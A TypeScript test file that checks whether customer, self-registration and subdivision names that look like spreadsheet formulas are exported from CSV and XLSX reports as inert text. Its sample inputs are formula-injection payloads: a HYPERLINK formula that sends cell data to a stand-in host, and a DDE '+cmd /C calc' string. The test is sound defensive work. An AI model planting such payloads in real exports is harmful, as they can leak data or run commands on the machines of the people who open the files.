import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { MODULE, SUBMODULE } from '../../src/schemas/permissions';
import { systemAuditContext } from '../../server/audit/audit';
import { createSale } from '../../server/modules/comercio/sales.service';
import { createCustomer, createLot, createSession, createStaff, createSubdivision } from '../../server/testing/fixtures';
import { bearer, dialects, useTestApp, useTestDatabase } from './harness';

/**
 * docs/security.md 30.13 and 30.14: names that look like spreadsheet formulas are stored as typed
 * (self-registration, customers, subdivisions) and every export neutralises them — the instalments
 * register's CSV and XLSX wrote `=HYPERLINK(…)` as is, a live link once opened in Excel.
 */

const FORMULA = '=HYPERLINK("http://x.example/?d="&A1,"Ver")';

/** An XLSX download's first sheet. */
async function sheetOf(bytes: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook.worksheets[0]!;
}

describe.each(dialects)('formula-looking names in exports (%s)', (dialect) => {
  const db = useTestDatabase(dialect);
  const ctx = useTestApp(db);

  it('self-registration stores a formula-looking name as typed', async () => {
    const res = await ctx().app.inject({
      method: 'POST',
      url: '/api/customer/register_user_customer',
      payload: {
        id_document_type: '1',
        document_number: '47110815',
        name: FORMULA,
        surname: '@SUM(1+1)',
        birthday_date: '1990-01-01',
        email: 'formula@parcela.test',
        phone: '912345678',
        password: 'Segura#2026',
      },
    });
    expect(res.statusCode, res.body).toBe(201);
    const row = await db()
      .selectFrom('customers')
      .select(['name', 'surname'])
      .where('document_number', '=', '47110815')
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ name: FORMULA, surname: '@SUM(1+1)' });
  });

  it('the instalments export (CSV and XLSX) and the sales report (XLSX) write it as text, never as a formula', async () => {
    const clock = ctx().clock;
    const subdivision = await createSubdivision(db(), { name: '+cmd|" /C calc"!A0' });
    const customer = await createCustomer(db(), { name: FORMULA, surname: 'Torres' });
    const lotId = await createLot(db(), subdivision.id, { block: 'F', number: '1' });
    await createSale({ db: db(), clock }, systemAuditContext(clock), {
      lot_id: lotId,
      holders: [{ customer_id: customer.id, role: 'TITULAR', share_percent: '100' }],
      sale_date: clock.now().toISOString().slice(0, 10),
      down_payment_percent: '20',
      down_payment_parts: 1,
      instalments: 2,
      monthly_rate_percent: '0',
      method: 'SIN_INTERES',
      first_due_date: '2030-01-31',
    });
    const staff = await createStaff(db(), {
      permissions: [MODULE.finanzas, SUBMODULE.pagos, MODULE.comercial, SUBMODULE.reporteVentas],
      clock,
    });
    const auth = bearer(await createSession(db(), staff));

    const csv = await ctx().app.inject({ method: 'GET', url: '/api/instalments/export?format=csv', headers: auth });
    expect(csv.statusCode, csv.body).toBe(200);
    const line = csv.body.split('\r\n')[1]!;
    expect(line).toContain(`"'+cmd|"" /C calc""!A0"`);
    expect(line).toContain(`"'=HYPERLINK(`);
    expect(line).not.toMatch(/(^|,)[=+@-][^\d]/);

    const xlsx = await ctx().app.inject({ method: 'GET', url: '/api/instalments/export?format=xlsx', headers: auth });
    expect(xlsx.statusCode).toBe(200);
    const register = await sheetOf(xlsx.rawPayload);
    const values = (register.getRow(2).values as unknown[]).filter((v): v is string => typeof v === 'string');
    expect(values).toContain(`'+cmd|" /C calc"!A0`);
    expect(values.find((v) => v.includes('HYPERLINK'))).toMatch(/^'=HYPERLINK/);
    expect(values.every((v) => !/^[=+@]/.test(v))).toBe(true);

    const from = clock.now().toISOString().slice(0, 10);
    const report = await ctx().app.inject({ method: 'GET', url: `/api/sales/report.xlsx?from=${from}&to=${from}`, headers: auth });
    expect(report.statusCode, report.body.slice(0, 300)).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(report.rawPayload as unknown as ArrayBuffer);
    const bySubdivision = workbook.getWorksheet('Por lotización')!;
    expect(bySubdivision.getCell('A2').value).toBe(`'+cmd|" /C calc"!A0`);
  });
});
